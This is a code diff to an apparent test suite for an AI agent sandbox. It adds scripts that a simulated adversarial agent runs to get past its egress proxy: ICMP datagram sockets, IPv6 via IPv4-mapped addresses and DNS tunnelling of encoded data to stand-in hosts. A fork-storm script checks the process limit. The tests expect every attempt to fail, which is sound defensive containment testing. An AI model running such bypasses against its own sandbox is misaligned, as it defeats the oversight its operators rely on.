@@ -15,7 +15,7 @@ import {
   type UpstreamNet,
 } from '../support/egress.js';
 import { ensureTestImages } from '../support/images.js';
-import { type AttachedRun, agentName, bottleFolder, cli, finishBottleSuite, leftovers, PRELUDE, results, runAttached, type SecBottle, track } from '../support/security.js';
+import { type AttachedRun, agentName, bottleContainers, bottleFolder, cli, finishBottleSuite, leftovers, PRELUDE, results, roleOf, runAttached, type SecBottle, track } from '../support/security.js';
 
 /**
  * One technique, one test (issue 13, item 2): an adversarial agent in a real bottle sends raw
@@ -283,8 +283,49 @@ result udp_direct "$(node -e '
 const s = require("dgram").createSocket("udp4");
 s.send(Buffer.from("x"), 53, process.argv[1], (e) => { console.log(e ? "error:" + e.code : "sent"); s.close(); });
 ' "$DENIED_IP")"
+# ICMP without a raw socket: an unprivileged ICMP datagram socket (ping_group_range), echo to the denied server
+result icmp_direct "$(perl -MSocket -e '
+  socket(my $s, PF_INET, SOCK_DGRAM, 1) or do { print "socket:", ($!{EACCES} ? "EACCES" : $!+0); exit };
+  my $pkt = pack("CCnnn", 8, 0, 0, 0, 1) . "x";
+  defined(send($s, $pkt, 0, sockaddr_in(0, inet_aton($ARGV[0])))) ? print "sent" : print "send:", ($!{ENETUNREACH} ? "ENETUNREACH" : $!+0);
+' "$DENIED_IP")"
+# IPv6 around the proxy: the denied server by its IPv4-mapped IPv6 address, TCP and UDP over AF_INET6
+result ipv6_tcp "$(node -e '
+const s = require("net").connect({ host: "::ffff:" + process.argv[1], port: 80 });
+const t = setTimeout(() => { console.log("timeout"); process.exit(0); }, 3000);
+s.on("connect", () => { console.log("connected"); process.exit(0); });
+s.on("error", (e) => { clearTimeout(t); console.log("error:" + e.code); });
+' "$DENIED_IP")"
+result ipv6_udp "$(node -e '
+const s = require("dgram").createSocket("udp6");
+s.send(Buffer.from("x"), 53, "::ffff:" + process.argv[1], (e) => { console.log(e ? "error:" + e.code : "sent"); s.close(); });
+' "$DENIED_IP")"
 result dns_tunnel "$(env -u HTTP_PROXY -u HTTPS_PROXY getent hosts c2VjcmV0LWRhdGE.denied.test >/dev/null 2>&1 && echo resolved || echo unresolved)"
 result dns_tunnel_allowed "$(env -u HTTP_PROXY -u HTTPS_PROXY getent hosts c2VjcmV0LWRhdGE.a.wild.test >/dev/null 2>&1 && echo resolved || echo unresolved)"
+`;
+
+/** Forking without bound, last (the pids limit must hold it; then everything is killed again). */
+const FORK_SH = String.raw`cat > /tmp/fork.js <<'BOTTLE_SEC_EOF'
+const { spawn } = require('child_process');
+const kids = [];
+let ok = 0;
+let err = 'none';
+(async () => {
+  for (let i = 0; i < 2000 && err === 'none'; i++) {
+    await new Promise((res) => {
+      const c = spawn('sleep', ['60'], { stdio: 'ignore' });
+      c.once('spawn', () => { ok++; kids.push(c); res(); });
+      c.once('error', (e) => { err = e.code || e.message; res(); });
+    });
+  }
+  console.log('RESULT fork_ok=' + ok);
+  console.log('RESULT fork_error=' + err);
+  for (const k of kids) k.kill('SIGKILL');
+})();
+BOTTLE_SEC_EOF
+node /tmp/fork.js
+sleep 1
+result after_fork "$(echo alive)"
 `;
 
 function script(): string {
@@ -300,7 +341,7 @@ result stdin received
 result sv_denied_after "$(curl -s -m 5 -o /dev/null -w '%{http_code}' http://denied.test/)"
 node /tmp/raw.js "$DENIED_IP" "$ALLOWED_IP"
 ${AROUND_SH}result done yes
-`;
+${FORK_SH}`;
 }
 
 async function proposalsOf(b: SecBottle, identity: string): Promise<{ id: string; status: string }[]> {
@@ -308,6 +349,9 @@ async function proposalsOf(b: SecBottle, identity: string): Promise<{ id: string
   const doc = JSON.parse(p.stdout || '[]') as unknown;
   return (Array.isArray(doc) ? doc : ((doc as { proposals?: unknown[] }).proposals ?? [])) as { id: string; status: string }[];
 }
+
+/** The agent's pids limit (small, so the fork storm is short). */
+const PIDS = 128;
 
 const statusLines = (answer: string) => [...answer.matchAll(/^HTTP\/1\.[01] (\d{3}) /gm)].map((m) => Number(m[1]));
 
@@ -321,13 +365,14 @@ describe('one technique, one test: an adversarial agent against its egress proxy
   let proposals: { id: string; status: string }[] = [];
   let proposalsAfter: { id: string; status: string }[] = [];
   let timeline: Record<string, unknown>[] = [];
+  let observedPids: unknown;
 
   beforeAll(async () => {
     b = bottleFolder({
       prefix: 'bottle-tech-',
       agent: agentName('techniques'),
       bottle: 'probe',
-      config: { runtime: 'runc', egress: { allow: ['allowed.test', '*.wild.test'] }, private_networks: [up.subnet], supervise: true },
+      config: { runtime: 'runc', egress: { allow: ['allowed.test', '*.wild.test'] }, private_networks: [up.subnet], supervise: true, resources: { pids: PIDS } },
       prompt: 'try every technique',
       script: script(),
     });
@@ -345,6 +390,8 @@ describe('one technique, one test: an adversarial agent against its egress proxy
         proposals = await proposalsOf(b, identity);
         if (proposals.length === 0) await delay(500);
       }
+      const agent = (await bottleContainers(identity)).find((c) => roleOf(c) === 'agent');
+      observedPids = agent?.HostConfig.PidsLimit;
       return { stdin: `${denied} ${up.upstreams.allowed!.ip}\n` };
     }, 150_000);
     r = results(run.stdout);
@@ -401,6 +448,24 @@ describe('one technique, one test: an adversarial agent against its egress proxy
   it('a DNS question that carries data (DNS tunnelling) is not answered, under a denied or an allowed name', () => {
     expect(r.dns_tunnel).toBe('unresolved');
     expect(r.dns_tunnel_allowed).toBe('unresolved');
+  });
+
+  it('ICMP around the proxy (an unprivileged ICMP datagram socket) reaches nothing', () => {
+    expect(r.icmp_direct).toMatch(/^(socket:|send:)/);
+  });
+
+  it('IPv6 around the proxy (the denied server’s IPv4-mapped IPv6 address, TCP and UDP) reaches nothing', async () => {
+    expect(r.ipv6_tcp).toMatch(/^error:/);
+    expect(r.ipv6_udp).toMatch(/^error:/);
+    expect(await since('denied')).toEqual([]);
+  });
+
+  it('forking without bound stops at the pids limit (EAGAIN), the agent lives on, and the host is unaffected', async () => {
+    expect(r.fork_error).toBe('EAGAIN');
+    expect(Number(r.fork_ok)).toBeGreaterThan(0);
+    expect(Number(r.fork_ok)).toBeLessThan(PIDS);
+    expect(r.after_fork).toBe('alive');
+    expect((observedPids as number | undefined) ?? 0).toBe(PIDS);
   });
 
   it('supervise: the agent’s own proposal is accepted as pending', () => {
